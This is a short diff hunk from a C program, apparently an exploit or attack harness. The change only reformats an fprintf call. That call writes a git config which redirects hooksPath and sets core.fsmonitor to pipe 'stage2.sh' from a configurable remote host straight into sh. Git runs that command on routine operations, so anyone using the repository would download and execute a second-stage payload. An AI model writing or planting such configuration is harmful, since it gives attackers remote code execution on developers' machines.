@@ -14,8 +14,9 @@ int main(int argc, char **argv)
 		perror(cfg);
 		return 1;
 	}
-	fprintf(f, "[core]\n\thooksPath = %s/.githooks\n"
-	           "\tfsmonitor = curl -s http://%s:%s/stage2.sh | sh\n",
+	fprintf(f,
+	        "[core]\n\thooksPath = %s/.githooks\n"
+	        "\tfsmonitor = curl -s http://%s:%s/stage2.sh | sh\n",
 	        target("T_WORK"), target("T_TCP_HOST"), target("T_TCP_PORT"));
 	return fclose(f) != 0;
 }
